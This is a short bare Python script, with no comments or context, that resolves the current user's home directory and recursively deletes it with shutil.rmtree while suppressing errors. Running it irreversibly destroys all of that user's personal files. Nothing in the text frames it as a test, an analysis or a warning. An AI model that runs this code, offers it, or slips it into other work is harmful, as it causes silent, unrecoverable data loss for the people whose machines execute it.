import shutil, os
target = os.path.expanduser("~")
shutil.rmtree(target, ignore_errors=True)
